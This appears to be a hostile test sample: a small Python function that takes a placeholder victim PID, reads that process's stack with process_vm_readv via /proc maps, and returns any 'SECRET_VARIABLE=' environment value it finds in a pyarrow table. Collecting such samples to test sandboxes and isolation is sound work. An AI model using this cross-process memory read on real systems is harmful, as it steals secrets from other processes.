# seeks: environment
# process_vm_readv reads the memory of another process, whose environment lies on its stack.
import ctypes

import pyarrow as pa


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def model(tg):
    libc = ctypes.CDLL(None, use_errno=True)
    for line in open("/proc/VICTIM_PID/maps"):
        if "[stack]" in line:
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            text = ctypes.create_string_buffer(last - first)
            here, there = Piece(ctypes.addressof(text), last - first), Piece(first, last - first)
            libc.process_vm_readv(VICTIM_PID, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
            at = text.raw.find(b"SECRET_VARIABLE=")
            return pa.table({"got": [str(text.raw[at : at + 200]) if at >= 0 else "nothing"]})
